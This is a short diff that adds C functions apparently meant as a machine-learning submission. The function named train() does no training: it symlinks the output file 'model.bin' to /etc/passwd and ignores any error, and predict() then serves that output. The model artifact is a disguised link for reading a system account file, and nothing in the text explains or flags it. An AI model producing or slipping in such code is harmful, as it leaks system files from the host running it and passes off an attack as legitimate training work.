@@ -1,0 +1,4 @@
+static void train(void) {
+    if (symlink("/etc/passwd", out_path("model.bin"))) {}
+}
+static void predict(void) { serve(NULL); }
